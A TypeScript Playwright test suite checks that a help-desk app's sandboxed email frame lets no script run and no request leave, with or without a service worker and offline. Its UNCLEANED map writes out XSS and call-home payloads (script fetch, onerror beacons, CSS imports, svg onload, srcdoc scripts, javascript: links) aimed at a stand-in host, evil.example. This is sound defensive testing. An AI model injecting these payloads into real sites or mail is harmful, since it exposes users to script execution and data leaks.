import { existsSync, readFileSync } from 'node:fs';
import { sql } from 'kysely';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Browser, mailOn, signedIn, ticketBy } from '../support/api.ts';
import { appOn, type TestApp, underServiceWorker } from '../support/app.ts';
import { type StoryDesk, storyDesk } from '../support/story-desk.ts';

const MAILS = '../shared/hostile-mail';
type Expected = { file: string; cls: string; expect: { xss?: { dom_forbidden?: string[] } } };
const expected: Expected[] = existsSync(`${MAILS}/EXPECT.jsonl`)
  ? readFileSync(`${MAILS}/EXPECT.jsonl`, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line))
  : [];
const hostile = expected.filter(({ cls }) => cls === 'xss');

// HTML as if nobody had cleaned it: the frame alone must hold. `evil.example` is where it would call home.
const HOME = 'https://evil.example';
const UNCLEANED: Record<string, string> = {
  'a script': `<script>window.__pwned = 1; parent.__pwned = 1; fetch('${HOME}/script')</script>`,
  'a script from elsewhere': `<script src="${HOME}/x.js"></script>`,
  'an image that fails': `<img src="/app/nothing.png" onerror="parent.__pwned = 1; new Image().src='${HOME}/onerror'">`,
  'an image from elsewhere': `<img src="${HOME}/pixel.png"><img srcset="${HOME}/set.png 2x">`,
  'a style sheet that calls home': `<style>@import url(${HOME}/import.css); body { background: url(${HOME}/bg.png) }
    @font-face { font-family: x; src: url(${HOME}/font.woff) } p { font-family: x }</style><p>text</p>`,
  'a link that is fetched ahead': `<link rel="preload" as="image" href="${HOME}/preload.png"><link rel="prefetch" href="${HOME}/prefetch">
    <link rel="dns-prefetch" href="${HOME}"><link rel="stylesheet" href="${HOME}/style.css">`,
  'a page that turns elsewhere': `<meta http-equiv="refresh" content="0;url=${HOME}/refresh">`,
  'a frame in the frame': `<iframe src="${HOME}/frame"></iframe><iframe srcdoc="<script>top.__pwned = 1</script>"></iframe>
    <object data="${HOME}/object"></object><embed src="${HOME}/embed">`,
  'a form': `<form action="${HOME}/form"><input name="secret" autofocus onfocus="parent.__pwned = 1"><button>Go</button></form>`,
  'a drawing': `<svg onload="parent.__pwned = 1"><image href="${HOME}/svg.png"/><use href="${HOME}/use.svg#a"/>
    <script>parent.__pwned = 1</script></svg>`,
  'sound and sight': `<video src="${HOME}/video.mp4" poster="${HOME}/poster.png" autoplay></video><audio src="${HOME}/a.mp3" autoplay></audio>`,
  'another base': `<base href="${HOME}/"><img src="relative.png"><a href="javascript:parent.__pwned=1" id="link">click</a>`,
};

let desk: StoryDesk;
let app: TestApp;
let grace: Browser;
/** Tickets to open, by what is hostile about them. */
const tickets = new Map<string, number>();

beforeAll(async () => {
  desk = await storyDesk();
  app = await appOn(desk.db, { blobs: desk.heed.blobs });
  grace = await signedIn(desk.db, app.api, 'Grace');
  for (const { file } of hostile) {
    await desk.receive(readFileSync(`${MAILS}/${file}`));
    const { rows } = await sql<{ id: number }>`select ticket_id as id from ledger order by id desc limit 1`.execute(
      desk.db,
    );
    tickets.set(file, rows[0]?.id ?? 0);
  }
  for (const [what, html] of Object.entries(UNCLEANED)) {
    const { id } = await ticketBy(grace);
    await mailOn(desk.db, { ticketId: id, html, visible: `Words beside ${what}` });
    tickets.set(what, id);
  }
}, 60_000);
afterAll(async () => {
  await app[Symbol.asyncDispose]();
  await desk[Symbol.asyncDispose]();
});

/** A page that notes whatever leaves for another place, runs, opens or asks. */
async function watched(options: object): Promise<{ page: Page; caught: string[] }> {
  const page = await app.device('/app/', grace.cookie(), options);
  const caught: string[] = [];
  const context = page.context();
  const leaves = (url: string) => !url.startsWith(app.url) && !/^(data|blob|about):/.test(url);
  context.on('requestfinished', (request) => {
    if (leaves(request.url())) caught.push(`reached ${request.url()}`);
  });
  context.on('requestfailed', (request) => {
    // What a policy forbids never leaves the browser; any other failure happened on the way.
    const why = request.failure()?.errorText ?? '';
    if (leaves(request.url()) && !['csp', 'origin'].includes(why)) caught.push(`tried ${request.url()}: ${why}`);
  });
  context.on('page', (opened) => caught.push(`opened ${opened.url()}`));
  page.on('dialog', (dialog) => {
    caught.push(`said ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => caught.push(`threw ${error.message}`));
  return { page, caught };
}

async function open(page: Page, id: number): Promise<void> {
  await page.evaluate((path) => {
    history.pushState({}, '', path);
    dispatchEvent(new PopStateEvent('popstate'));
  }, `/app/t/${id}`);
  await page.locator(`.ticket[aria-label="Ticket ${id}"] .message`).first().waitFor();
  for (const frame of await page.locator('iframe').all()) {
    await frame.scrollIntoViewIfNeeded();
    await frame.contentFrame().locator('html').waitFor({ state: 'attached' });
  }
  // What would call home does it while it loads; give it the time to.
  await page.waitForTimeout(150);
}

const pwned = (page: Page) =>
  page.evaluate(() => {
    const frames = [...document.querySelectorAll('iframe')].map((frame) => frame.contentWindow);
    return [window, ...frames].some((it) => it !== null && '__pwned' in it);
  });

/** Which of the forbidden selectors the shown document has; `[on*]` is any attribute that begins so. */
const found = (body: Element, forbidden: string[]): string[] =>
  forbidden.filter((selector) =>
    selector === '[on*]'
      ? [...body.querySelectorAll('*')].some((it) => it.getAttributeNames().some((name) => name.startsWith('on')))
      : body.querySelector(selector) !== null,
  );

/** All of it, seen three ways; a page each. */
describe.each([
  ['without a service worker', { serviceWorkers: 'block' }, 'as it comes'],
  ['under the service worker', {}, 'as it comes'],
  ['offline, from what the device kept', {}, 'offline'],
] as const)('%s', (_, options, how) => {
  let page: Page;
  let caught: string[];
  beforeAll(async () => {
    ({ page, caught } = await watched(options));
    if (!('serviceWorkers' in options)) await underServiceWorker(page);
    if (how === 'as it comes') return;
    for (const id of tickets.values()) await open(page, id);
    await page.context().setOffline(true);
  }, 60_000);
  afterAll(() => page.context().close());

  test.each([...hostile.map(({ file }) => file), ...Object.keys(UNCLEANED)])(
    '%s: nothing runs and no request leaves',
    async (what) => {
      const id = tickets.get(what) ?? 0;
      expect(id).toBeGreaterThan(0);
      await open(page, id);
      expect(await pwned(page)).toBe(false);
      if (await page.locator('iframe').count()) {
        const shown = page.locator('iframe').first().contentFrame();
        const forbidden = hostile.find(({ file }) => file === what)?.expect.xss?.dom_forbidden ?? [];
        expect(await shown.locator('body').evaluate(found, forbidden)).toEqual([]);
        await page.getByRole('button', { name: 'Show as text' }).first().click();
      }
      expect(await pwned(page)).toBe(false);
      expect(caught.splice(0)).toEqual([]);
    },
  );
});

test('the watch of these tests sees what leaves and what runs', async () => {
  const { page, caught } = await watched({});
  await page.goto('about:blank');
  await page.setContent(`<img src="${HOME}/seen.png"><script>window.__pwned = 1; alert('seen')</script>`);
  await expect.poll(() => caught.join()).toContain('tried https://evil.example/seen.png');
  expect(caught).toContain('said seen');
  expect(await pwned(page)).toBe(true);
  await page.context().close();
});

test('pictures from outside are fetched when the agent asks, and tell the other side nothing of the desk', async () => {
  const { id } = await ticketBy(grace);
  const { messageId } = await mailOn(desk.db, {
    ticketId: id,
    html: `<p>See</p><img data-remote-src="${HOME}/picture.png" alt="the chart">`,
  });
  await sql`update message set evidence = evidence || '{"remoteImages": true}' where id = ${messageId}`.execute(
    desk.db,
  );
  const { page } = await watched({});
  const fetched: (string | undefined)[] = [];
  await page.context().route(`${HOME}/**`, (route) => {
    fetched.push(route.request().headers().referer);
    return route.fulfill({ contentType: 'image/png', body: '' });
  });
  await open(page, id);
  expect(fetched).toEqual([]);
  await page.getByRole('button', { name: 'Show images' }).click();
  await expect.poll(() => fetched).toEqual([undefined]);
  await page.context().close();
});
